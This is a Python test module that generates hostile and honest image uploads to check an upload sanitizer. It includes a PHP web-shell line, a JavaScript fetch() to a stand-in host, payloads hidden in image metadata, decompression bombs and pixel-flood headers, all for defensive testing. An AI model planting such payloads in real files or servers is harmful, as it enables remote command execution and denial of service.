"""Hostile and honest uploads, made on the spot from fixed seeds; nothing binary is kept in the repository.

Each sample names its class, its exact verdict and, where it smuggles something, the canary that must be gone.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial

from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo

CANARY = b"KENARI-9d41c07e"
ACCEPTED = "accepted"
_TEXT = CANARY.decode()


@dataclass(frozen=True)
class Sample:
    group: str
    name: str
    verdict: str  # "accepted" or the code of the refusal
    make: Callable[[], bytes]
    slow: bool = False

    def __str__(self) -> str:
        return f"{self.group}: {self.name}"


def samples() -> list[Sample]:
    from tests import (
        corpus_disguise,
        corpus_pdf,
        corpus_pdf_hostile,
    )  # they take their building blocks from here

    makers = (_carriers, _metadata, _odd_images, _broken_images, _sizes)
    others = (
        corpus_disguise.disguises,
        corpus_disguise.markup,
        corpus_pdf.active,
        corpus_pdf_hostile.hostile,
    )
    found = [sample for maker in (*makers, *others) for sample in maker()]
    assert len({str(sample) for sample in found}) == len(found)
    return found


# --- building blocks -------------------------------------------------------------------------------


@cache
def card(width: int = 640, height: int = 480) -> Image.Image:
    """A picture with a red corner at the top left, so that a test sees which way is up."""
    dice = random.Random(width * 10_000 + height)
    picture = Image.new("RGB", (width, height), (225, 228, 220))
    draw = ImageDraw.Draw(picture)
    for _ in range(60):
        x, y = dice.randrange(width), dice.randrange(height)
        colour = (dice.randrange(90, 200), dice.randrange(90, 200), dice.randrange(120, 220))
        draw.ellipse((x, y, x + width // 8, y + height // 10), outline=colour, width=3)
    draw.rectangle((0, 0, width // 4, height // 4), fill=(220, 20, 20))
    draw.text((width // 3, height // 2), "SERTIFIKAT PELATIHAN CONTOH", fill="black")
    return picture


def encode(picture: Image.Image, kind: str, **options: object) -> bytes:
    if kind == "HEIF":
        import pillow_heif

        pillow_heif.register_heif_opener()
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def exif(*, orientation: int = 1, text: str = _TEXT) -> bytes:
    block = Image.Exif()
    block[0x0112] = orientation
    block[0x010E] = text  # ImageDescription
    block[0x010F] = "Kamera Contoh"
    block.get_ifd(0x8769)[0x927C] = text.encode() * 4  # MakerNote
    block.get_ifd(0x8825).update(
        {1: "S", 2: (6.0, 12.0, 30.0), 3: "E", 4: (106.0, 49.0, 0.0), 27: text.encode()}
    )
    return block.tobytes()


def png_chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def add_png_chunk(png: bytes, name: bytes, body: bytes) -> bytes:
    return png[:33] + png_chunk(name, body) + png[33:]  # behind IHDR


def add_segment(jpeg: bytes, marker: int, body: bytes) -> bytes:
    return jpeg[:2] + bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body + jpeg[2:]


def png_header_only(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + rows + png_chunk(b"IEND", b"")


def many_scans(picture: Image.Image, scans: int) -> bytes:
    """A progressive JPEG that repeats its last scan: each one is drawn over the whole picture again."""
    jpeg = encode(picture, "JPEG", quality=50, progressive=True)
    last = jpeg.rindex(b"\xff\xda")
    return jpeg[:last] + jpeg[last:-2] * scans + b"\xff\xd9"


def payloads() -> dict[str, bytes]:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("kenari.html", CANARY)
    return {
        "html": b"<html><script>document.title='" + CANARY + b"'</script></html>",
        "js": b"*/=1;fetch('//contoh.invalid/" + CANARY + b"');/*",
        "php": b"<?php system($_GET['" + CANARY + b"']); ?>",
        "zip": packed.getvalue(),
    }


# --- images ----------------------------------------------------------------------------------------


def _carriers() -> Iterator[Sample]:
    for kind in ("JPEG", "PNG", "WEBP"):
        for payload, smuggled in payloads().items():
            for place in ("appended", "comment", "exif", "icc"):
                make = partial(_carrier, kind, place, smuggled)
                yield Sample("carrier", f"{kind} {place} {payload}", ACCEPTED, make)


def _carrier(kind: str, place: str, smuggled: bytes) -> bytes:
    text = smuggled.decode("latin-1")
    if place == "appended":
        return encode(card(), kind) + smuggled
    if place == "exif":
        return encode(card(), kind, exif=exif(text=text.encode("ascii", "replace").decode()))
    if place == "icc":
        profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + smuggled
        profile = struct.pack(">I", len(profile)) + profile[4:]
        return encode(card(), kind, icc_profile=profile)
    if kind == "JPEG":
        return add_segment(encode(card(), kind), 0xFE, smuggled)
    if kind == "PNG":
        return add_png_chunk(encode(card(), kind), b"tEXt", b"Comment\0" + smuggled)
    return encode(card(), kind, xmp=smuggled)


def _metadata() -> Iterator[Sample]:
    for kind in ("JPEG", "PNG", "WEBP", "HEIF"):
        yield Sample(
            "metadata", f"{kind} gps and maker note", ACCEPTED, partial(_with_exif, kind, 1)
        )
        yield Sample("metadata", f"{kind} gps, turned", ACCEPTED, partial(_with_exif, kind, 6))
        yield Sample("metadata", f"{kind} xmp", ACCEPTED, partial(_with_xmp, kind))
    jpeg = partial(encode, card(), "JPEG")
    thumbnail = (
        b"Exif\0\0"
        + b"II*\0\x08\0\0\0"
        + b"\0\0"
        + b"\0\0\0\0"
        + encode(card(64, 48), "JPEG")
        + CANARY
    )
    yield Sample(
        "metadata", "thumbnail in exif", ACCEPTED, lambda: add_segment(jpeg(), 0xE1, thumbnail)
    )
    jfxx = b"JFXX\0\x10" + CANARY
    yield Sample("metadata", "thumbnail in JFXX", ACCEPTED, lambda: add_segment(jpeg(), 0xE0, jfxx))
    iptc = b"Photoshop 3.0\x008BIM" + CANARY
    yield Sample("metadata", "photoshop block", ACCEPTED, lambda: add_segment(jpeg(), 0xED, iptc))
    mpf = encode(card(64, 48), "JPEG") + CANARY
    yield Sample(
        "metadata", "second picture behind the first (phone)", ACCEPTED, lambda: jpeg() + mpf
    )
    yield Sample("metadata", "text after IEND", ACCEPTED, lambda: encode(card(), "PNG") + CANARY)


def _with_exif(kind: str, orientation: int) -> bytes:
    return encode(card(), kind, exif=exif(orientation=orientation))


def _with_xmp(kind: str) -> bytes:
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + CANARY + b"</x:xmpmeta>"
    if kind == "PNG":
        info = PngInfo()
        info.add_itxt("XML:com.adobe.xmp", xmp.decode(), zip=True)
        return encode(card(), kind, pnginfo=info)
    return encode(card(), kind, xmp=xmp)


def _odd_images() -> Iterator[Sample]:
    def saved(kind: str, mode: str, **options: object) -> Callable[[], bytes]:
        return lambda: encode(card().convert(mode), kind, **options)

    for mode in ("L", "CMYK"):
        yield Sample("odd image", f"JPEG {mode}", ACCEPTED, saved("JPEG", mode))
    yield Sample("odd image", "JPEG progressive", ACCEPTED, saved("JPEG", "RGB", progressive=True))
    yield Sample("odd image", "JPEG optimized 4:4:4", ACCEPTED, saved("JPEG", "RGB", subsampling=0))
    for mode in ("1", "L", "LA", "P", "RGBA"):
        yield Sample("odd image", f"PNG {mode}", ACCEPTED, saved("PNG", mode))
    grey16 = Image.new("I;16", (80, 60), 40_000)
    yield Sample("odd image", "PNG 16 bit", ACCEPTED, partial(encode, grey16, "PNG"))
    yield Sample(
        "odd image",
        "PNG transparent colour",
        ACCEPTED,
        saved("PNG", "RGB", transparency=(220, 20, 20)),
    )
    yield Sample("odd image", "WEBP lossless RGBA", ACCEPTED, saved("WEBP", "RGBA", lossless=True))
    yield Sample("odd image", "HEIF", ACCEPTED, saved("HEIF", "RGB"))
    yield Sample("odd image", "one pixel", ACCEPTED, partial(encode, card(1, 1), "PNG"))
    broken_exif = b"Exif\0\0II*\0\xff\xff\xff\x7f" + CANARY
    jpeg = partial(encode, card(), "JPEG")
    yield Sample(
        "odd image", "damaged exif", ACCEPTED, lambda: add_segment(jpeg(), 0xE1, broken_exif)
    )


def _broken_images() -> Iterator[Sample]:
    group, png, jpeg = (
        "broken image",
        partial(encode, card(), "PNG"),
        partial(encode, card(), "JPEG"),
    )
    for kind in ("JPEG", "PNG", "WEBP", "HEIF"):
        for part in (5, 30, 60, 97):
            make = partial(_cut, kind, part)
            yield Sample(group, f"{kind} cut at {part} %", "image_unreadable", make)
    for size in ((60_000, 60_000), (2**31 - 1, 2**31 - 1), (5_001, 5_000)):
        make = partial(png_header_only, *size)
        yield Sample(group, f"PNG says {size}", "image_too_many_pixels", make)
    flat = partial(Image.new, "L", (12_000, 12_000))
    yield Sample(
        group, "PNG of 144 MP in 18 kB", "image_too_many_pixels", lambda: encode(flat(), "PNG")
    )
    yield Sample(
        group, "JPEG of 144 MP", "image_too_many_pixels", lambda: encode(flat(), "JPEG"), slow=True
    )
    yield Sample(group, "JPEG says 65500 x 65500", "image_too_many_pixels", _jpeg_flood)
    webp = partial(Image.new, "RGB", (4_000, 3_001))
    yield Sample(
        group, "WEBP of 12 MP and a row", "image_too_many_pixels", lambda: encode(webp(), "WEBP")
    )
    yield Sample(group, "HEIF says 5,001 x 5,000", "image_too_many_pixels", _heif_flood)
    frames = [card(64, 48), card(64, 48).rotate(90)]
    for kind in ("PNG", "WEBP"):
        make = partial(encode, frames[0], kind, save_all=True, append_images=frames[1:])
        yield Sample(group, f"{kind} animated", "image_animated", make)
    small = card(160, 120)
    yield Sample(group, "JPEG of 51 scans", "image_too_heavy", partial(many_scans, small, 51))
    yield Sample(group, "JPEG of 2000 scans", "image_too_heavy", partial(many_scans, small, 2000))
    slow_scans = partial(_many_scans_of, (6_000, 6_000), 300)
    yield Sample(group, "JPEG of 300 scans, 36 MP", "image_too_heavy", slow_scans, slow=True)
    yield Sample(group, "JPEG without end", "image_unreadable", lambda: jpeg()[:-2])
    yield Sample(
        group, "JPEG only a header", "image_unreadable", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\0"
    )
    yield Sample(
        group, "PNG damaged sum", "image_unreadable", lambda: png().replace(b"IDAT", b"IDAT\x01", 1)
    )
    yield Sample(group, "PNG without IEND", "image_unreadable", lambda: png()[:-12])
    for name in (b"zTXt", b"iCCP"):
        yield Sample(
            group, f"PNG bomb in {name.decode()}", ACCEPTED, partial(_png_chunk_bomb, name)
        )
    malformed = partial(add_png_chunk, png(), b"tEXt", b"\0")
    yield Sample(group, "PNG malformed text", ACCEPTED, malformed)
    yield Sample(group, "PNG rows of 150 MB for 10 x 10", ACCEPTED, _png_rows_bomb)


def _png_chunk_bomb(name: bytes) -> bytes:
    return add_png_chunk(
        encode(card(), "PNG"), name, b"x\0\0" + zlib.compress(bytes(60_000_000), 9)
    )


def _png_rows_bomb() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 10, 10, 8, 2, 0, 0, 0)
    rows = png_chunk(b"IDAT", zlib.compress(bytes(150_000_000), 9))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + rows + png_chunk(b"IEND", b"")


def _many_scans_of(size: tuple[int, int], scans: int) -> bytes:
    return many_scans(Image.new("RGB", size), scans)


def _cut(kind: str, percent: int) -> bytes:
    whole = encode(card(), kind)
    return whole[: max(40, len(whole) * percent // 100)]


def _heif_flood() -> bytes:
    heif = encode(card(), "HEIF")
    at = heif.index(b"ispe") + 8
    return heif[:at] + struct.pack(">II", 5_001, 5_000) + heif[at + 8 :]


def _jpeg_flood() -> bytes:
    jpeg = encode(card(64, 48), "JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">HH", 65_500, 65_500) + jpeg[at + 4 :]


# --- sizes -----------------------------------------------------------------------------------------


def _sizes() -> Iterator[Sample]:
    limit = 10_000_000
    yield Sample("size", "empty", "empty", bytes)
    yield Sample("size", "one byte", "unknown_type", lambda: b"\xff")
    yield Sample("size", "two bytes of PDF", "unknown_type", lambda: b"%P")
    for size, verdict in ((limit - 1, ACCEPTED), (limit, ACCEPTED), (limit + 1, "too_large")):
        yield Sample("size", f"JPEG of {size} bytes", verdict, partial(_padded_jpeg, size))
        yield Sample("size", f"PNG of {size} bytes", verdict, partial(_padded_png, size))


def _padded_jpeg(size: int) -> bytes:
    jpeg = encode(card(), "JPEG")
    while len(jpeg) < size - 70_000:
        jpeg = add_segment(jpeg, 0xFE, bytes(65_000))
    return jpeg + bytes(size - len(jpeg))


def _padded_png(size: int) -> bytes:
    png = encode(card(), "PNG")
    return add_png_chunk(png, b"tEXt", bytes(size - len(png) - 12))
